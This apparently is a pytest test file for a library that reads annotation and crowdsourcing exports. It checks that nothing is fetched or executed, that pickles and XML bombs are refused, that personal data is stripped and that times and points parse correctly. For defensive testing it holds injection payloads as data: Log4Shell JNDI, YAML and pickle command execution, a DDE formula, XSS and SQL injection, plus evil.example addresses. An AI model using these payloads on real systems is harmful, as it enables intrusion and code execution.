# ----------------------------------------------------------------------------------------- S10, S12: nothing is fetched


class _NoNetwork(socket.socket):
    def __new__(cls, *arguments: Any, **options: Any) -> _NoNetwork:
        raise AssertionError("a socket was opened")


@pytest.fixture
def no_network(monkeypatch: pytest.MonkeyPatch) -> None:
    """Let no socket be opened, no name be looked up and no program be run."""

    def refuse(*_: Any, **__: Any) -> Any:
        raise AssertionError("something was fetched or run")

    monkeypatch.setattr(socket, "socket", _NoNetwork)
    for name in ("create_connection", "getaddrinfo", "gethostbyname"):
        monkeypatch.setattr(socket, name, refuse)
    monkeypatch.setattr(subprocess, "Popen", refuse)
    monkeypatch.setattr("os.system", refuse)


@pytest.mark.usefixtures("no_network")
def test_s10_the_guard_notices_what_is_fetched_or_run() -> None:
    for forbidden in (
        socket.socket,
        lambda: socket.getaddrinfo("evil.example", 80),
        lambda: urllib.request.urlopen("http://127.0.0.1:9/"),
        lambda: subprocess.run([sys.executable, "-c", ""], check=False),
        lambda: os.system("true"),
    ):
        with pytest.raises(AssertionError, match=r"a socket was opened|something was fetched or run"):
            forbidden()


@pytest.mark.usefixtures("no_network")
@pytest.mark.parametrize("case", FIRST, ids=FILES)
def test_s10_nothing_is_fetched_while_an_export_is_read(case: Case) -> None:
    """The files have addresses of pictures and of pages in them."""
    assert case.read().n_answers == len(case.votes)


def test_s10_the_golden_files_have_addresses() -> None:
    assert sum(b"http://" in data_of(case) or b"s3://" in data_of(case) for case in SINGLE) >= 3


@pytest.mark.usefixtures("no_network")
@pytest.mark.parametrize("kind", ["remote entity", "external document type"])
def test_s10_nothing_is_fetched_for_xml(kind: str, file: Any) -> None:
    with pytest.raises(FileError, match="declares a document type"):
        cw.read(file(XML_BOMBS[kind], "a.xml"))


@pytest.mark.usefixtures("no_network")
@pytest.mark.parametrize(
    "name",
    ["http://127.0.0.1:9/a.csv", "https://evil.example/a.parquet", "s3://bucket/a.parquet", "hf://datasets/a/b.csv"],
)
def test_s12_an_address_in_place_of_a_file_is_a_file_that_is_not_there(name: str) -> None:
    for format in (None, "parquet", "toloka"):
        with pytest.raises(FileError, match=rf"{re.escape(name)} is an address, not a file, and nothing is fetched"):
            cw.read(name, format=format)


def test_s12_a_name_with_a_pattern_in_it_is_that_file(file: Any) -> None:
    """A file may be called like a pattern; then no other is read."""
    file(LINE.replace("x", "other"), "a1.jsonl")
    assert cw.read(file(LINE, "a[1].jsonl")).classes.to_list() == ["x"]


def test_s12_a_link_to_another_file_is_read_as_that_file(file: Any) -> None:
    path = file(LINE, "a.jsonl")
    (path.parent / "b.jsonl").symlink_to(path)
    assert cw.read(path.parent / "b.jsonl").n_answers == 1


# ---------------------------------------------------------------------------------- S4, S17: texts are never executed

HARMFUL = (
    "__import__('os').system('touch pwned')", "{{7*7}}", "{0.__class__}", "${jndi:ldap://evil.example/a}", "%s%s%n",
    "!!python/object/apply:os.system ['touch pwned']", "=cmd|' /C calc'!A0", "</script><script>alert(1)</script>",
    "\x1b[2Jgone", "cos\nsystem\n(S'touch pwned'\ntR.", "'; DROP TABLE answers; --",
)  # fmt: skip


@pytest.mark.usefixtures("no_network")
@pytest.mark.parametrize("text", HARMFUL)
def test_s17_texts_are_labels_and_nothing_else(text: str, file: Any, monkeypatch: pytest.MonkeyPatch) -> None:
    tasks = [{"id": text, "data": {"text": text}, "annotations": [json.loads(CHOICE % json.dumps(text))]}]
    path = file(json.dumps(tasks), "a.json")
    monkeypatch.chdir(path.parent)
    assert rows_of(cw.read(path)) == [(text, "1", text)]
    records = json.dumps({"item": text, "judge": text, "verdict": text})
    assert rows_of(cw.read(file(records + "\n", "a.jsonl"))) == [(text, text, text)]
    assert not (path.parent / "pwned").exists()


class Canary:
    """An object that writes a file when its pickle is loaded."""

    def __init__(self, path: Path) -> None:
        self.path = path

    def __reduce__(self) -> tuple[Any, ...]:
        return Path.touch, (self.path,)


@pytest.mark.parametrize("name", ["a.csv", "a.json", "a.parquet", "a.arrow", "a.xlsx", "a.pkl", "a"])
def test_s4_a_pickle_is_not_loaded(name: str, file: Any) -> None:
    path = file(b"", name)
    canary = path.with_name("pickle-was-run")
    path.write_bytes(pickle.dumps(Canary(canary)))
    with pytest.raises(DataError):
        cw.read(path)
    assert not canary.exists()
    pickle.loads(path.read_bytes())
    assert canary.exists()  # the pickle does what it is said to do


# ------------------------------------------------------------------------------------------------- S13: personal data


def test_s13_addresses_of_people_are_not_kept_from_any_export(file: Any) -> None:
    text = (
        "HITId,WorkerId,AssignmentStatus,Answer.x,ip,email\n1,bea@example.org,Approved,a,203.0.113.7,bea@example.org\n"
    )
    answers = cw.read(file(text))
    everything = str(answers.frame().to_dicts()) + json.dumps(answers.intake.as_dict()) + repr(answers)
    assert "example.org" not in everything
    assert "203.0.113.7" not in everything


def test_s13_errors_about_rows_do_not_show_the_address(file: Any) -> None:
    """The examples of dropped rows show the digest."""
    text = "HITId,WorkerId,AssignmentStatus,Answer.x\n1,bea@example.org,Rejected,a\n2,bea@example.org,Approved,a\n"
    answers = cw.read(file(text))
    assert answers.intake.dropped[0].examples[0].startswith("answers.csv:2: 1, worker-")


# ------------------------------------------------------------------------------------------------ D25 to D29 in exports


def test_d25_different_known_labels_of_a_task_are_not_used(file: Any) -> None:
    known = [json.loads(CHOICE % f'"{label}"') | {"ground_truth": True} for label in ("x", "y")]
    tasks = [{"id": 1, "data": {}, "annotations": [json.loads(CHOICE % '"x"'), *known]}]
    answers = cw.read(file(json.dumps(tasks), "a.json"))
    assert answers.n_gold == 0
    assert "different known labels, which are not used" in str(answers.intake.warnings)


def test_d26_gold_of_a_task_without_votes_is_kept_and_counted(file: Any) -> None:
    known = json.loads(CHOICE % '"x"') | {"ground_truth": True}
    tasks = [
        {"id": 1, "data": {}, "annotations": [json.loads(CHOICE % '"x"')]},
        {"id": 2, "data": {}, "annotations": [known]},
    ]
    answers = cw.read(file(json.dumps(tasks), "a.json"))
    assert (answers.tasks.to_list(), answers.answers_per_task.tolist(), left_out(answers)) == (
        ["1", "2"],
        [1, 0],
        {"gold": 1},
    )


def mturk(*times: tuple[str, str]) -> str:
    """Return a batch with these times of acceptance and submission."""
    rows = "".join(f"{n},w,Approved,a,{start},{end}\n" for n, (start, end) in enumerate(times))
    return f"HITId,WorkerId,AssignmentStatus,Answer.x,AcceptTime,SubmitTime\n{rows}"


def test_d27_times_of_several_zones_are_the_same_instants(file: Any) -> None:
    """In winter, 8 in the morning in California is 16 in Greenwich."""
    text = mturk(
        ("Thu Jan 01 08:00:00 PST 2026", "Thu Jan 01 16:00:30 UTC 2026"),
        ("2026-01-01T08:00:00-08:00", "2026-01-01T16:00:30Z"),
        ("1/1/2026 16:00:00", "2026-01-01 16:00:30"), ("1767283200", "1767283230000"),
    )  # fmt: skip
    frame = cw.read(file(text)).frame()
    assert frame["seconds"].to_list() == [30.0] * 4
    assert frame["timestamp"].n_unique() == 1


def test_d27_an_end_before_the_start_has_no_duration_and_is_counted(file: Any) -> None:
    good, bad = ("2026-01-01T08:00:00Z", "2026-01-01T08:00:09Z"), ("2026-01-01T08:00:09Z", "2026-01-01T08:00:00Z")
    answers = cw.read(file(mturk(good, bad)))
    assert answers.frame()["seconds"].to_list() == [9.0, None]
    assert "1 answer(s) end before they start; their duration is not used" in answers.intake.warnings


def test_d27_times_that_cannot_be_read_are_missing(file: Any) -> None:
    answers = cw.read(file(mturk(("soon", "later"), ("2026-01-01T08:00:00 XYZ", "2026-02-30T08:00:00Z"))))
    assert "seconds" not in answers.frame().columns or answers.frame()["seconds"].null_count() == 2


def keypoints(size: dict[str, int], *places: tuple[float, float]) -> str:
    results = [
        {"from_name": "kp", "type": "keypointlabels", "value": {"x": x, "y": y, "keypointlabels": ["dot"]}, **size}
        for x, y in places
    ]
    return json.dumps([{"id": 1, "data": {}, "annotations": [{"id": 1, "completed_by": 1, "result": results}]}])


def test_d28_percent_of_images_of_unknown_size_is_refused(file: Any) -> None:
    path = file(keypoints({}, (10, 20)), "a.json")
    with pytest.raises(DataError, match=r"the points in a\.json are percent of the images, whose sizes are not in the"):
        cw.read(path)
    percent = cw.read(path, unit="pixels", box=(0, 0, 100, 100))
    assert percent.X.tolist() == [[10, 20]]


def test_d28_percent_and_pixels_in_one_file_are_refused(file: Any) -> None:
    known = json.loads(keypoints({"original_width": 200, "original_height": 100}, (10, 20)))
    path = file(json.dumps([*known, *json.loads(keypoints({}, (10, 20)))]), "a.json")
    with pytest.raises(
        DataError, match=r"1 of 2 points in a\.json are percent of images whose sizes are not in the file"
    ):
        cw.read(path)


def test_d28_points_outside_the_image_are_dropped_and_counted(file: Any) -> None:
    path = file(keypoints({"original_width": 200, "original_height": 100}, (10, 20), (150, 20)), "a.json")
    answers = cw.read(path)
    assert answers.X.tolist() == [[20, 20]]
    assert sum(dropped.count for dropped in answers.intake.dropped) == 1


def test_d29_a_winner_that_is_not_in_the_pair_is_refused(file: Any) -> None:
    text = "worker,left,right,label\n" + "ann,a,b,a\n" * 30 + "bob,a,b,c\n"
    with pytest.raises(FileError, match=r"answers\.csv:32: .*label is 'c', which is neither left nor right"):
        cw.read(file(text), duplicates="each")


def test_d29_a_comparison_without_a_winner_is_empty(file: Any) -> None:
    record = {"model_a": "x", "model_b": "y", "judge": "ann", "question_id": "1"}
    lines = "".join(
        json.dumps({**record, "question_id": n, "winner": w}) + "\n" for n, w in enumerate(["model_a", None])
    )
    answers = cw.read(file(lines, "a.jsonl"))
    assert (answers.n_answers, left_out(answers)) == (1, {"empty": 1})


def test_d29_the_two_sides_may_be_the_same(file: Any) -> None:
    """Then the side that won is the first; nothing can be learnt from it, and nothing breaks."""
    answers = cw.read(file("worker,left,right,label\nann,a,a,a\nbob,a,a,a\n"))
    assert answers.classes.to_list() == ["left"]


def test_every_golden_file_is_used_here() -> None:
    assert {case.file for case in SINGLE} | {"potato"} == set(EXPECTED)
    others = {"doccano.zip", "doccano-bbox.zip", "peerannot.txt"}
    assert {case.file for case in (*DELIMITED, *LINED, *RECORDS, *XML)} | others == {case.file for case in SINGLE}
